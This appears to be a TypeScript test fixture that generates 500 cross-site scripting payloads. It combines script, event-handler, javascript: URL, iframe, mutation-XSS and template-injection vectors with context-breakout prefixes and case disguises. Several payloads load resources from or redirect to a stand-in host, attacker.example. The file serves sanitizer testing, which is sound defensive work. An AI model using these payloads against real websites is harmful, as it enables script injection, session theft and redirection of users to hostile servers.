/** The attacker's server, which no page may ever contact. */
export const ATTACKER = "https://attacker.example";

/** Each payload calls `ran` with its number, marks an element or contacts the attacker's server. */
const vectors: readonly ((call: string) => string)[] = [
  (call) => `<script data-attack>${call}</script>`,
  (call) => `<script data-attack src="${ATTACKER}/x.js">${call}</script>`,
  (call) => `<img data-attack src=x onerror="${call}">`,
  () => `<img data-attack src="${ATTACKER}/x.png" srcset="${ATTACKER}/y.png 2x">`,
  (call) => `<svg data-attack onload="${call}"></svg>`,
  (call) => `<svg data-attack><script>${call}</script></svg>`,
  (call) => `<svg data-attack><animate onbegin="${call}" attributeName=x dur=1s /></svg>`,
  (call) => `<iframe data-attack srcdoc="<script>parent.${call}</script>"></iframe>`,
  (call) => `<iframe data-attack src="javascript:parent.${call}"></iframe>`,
  () => `<object data-attack data="${ATTACKER}/x.swf"></object>`,
  () => `<embed data-attack src="${ATTACKER}/x.svg">`,
  (call) => `<a data-attack href="javascript:${call}">Press</a>`,
  (call) =>
    `<form data-attack action="${ATTACKER}" id=f><button formaction="javascript:${call}">Go</button></form>`,
  (call) => `<input data-attack autofocus onfocus="${call}">`,
  (call) => `<details data-attack open ontoggle="${call}"><summary>x</summary></details>`,
  (call) => `<video data-attack><source onerror="${call}"></video>`,
  () => `<link data-attack rel=stylesheet href="${ATTACKER}/x.css">`,
  () => `<style data-attack>@import "${ATTACKER}/x.css"; *{background:url(${ATTACKER}/y)}</style>`,
  () => `<base data-attack href="${ATTACKER}/">`,
  () => `<meta data-attack http-equiv=refresh content="0;url=${ATTACKER}">`,
  (call) => `<math data-attack><mtext><table><mglyph><style><img src=x onerror="${call}">`,
  (call) => `<x-attack data-attack tabindex=1 autofocus onfocus="${call}">x</x-attack>`,
  (call) => `{{constructor.constructor('${call}')()}}`,
  (call) => `javascript:${call}//`,
  (call) => `\${${call}}`,
];

/** The ways out of the context in which the text may be inserted. */
const ways = ["", '">', "'>", "</title>", "</textarea>", "</script>", "-->", "]]>", "</style>", '" x="'];

const disguises: readonly ((html: string) => string)[] = [
  (html) => html,
  (html) =>
    html.replace(/<(\w)(\w*) /g, (_, first: string, rest: string) => `<${first.toUpperCase()}${rest}\n/`),
];

/** 500 texts, each of which runs a script, marks an element or contacts another server if it is treated as HTML. */
export const payloads: readonly string[] = vectors.flatMap((vector, v) =>
  ways.flatMap((way, w) =>
    disguises.map(
      (disguise, d) => way + disguise(vector(`ran(${(v * ways.length + w) * disguises.length + d})`)),
    ),
  ),
);
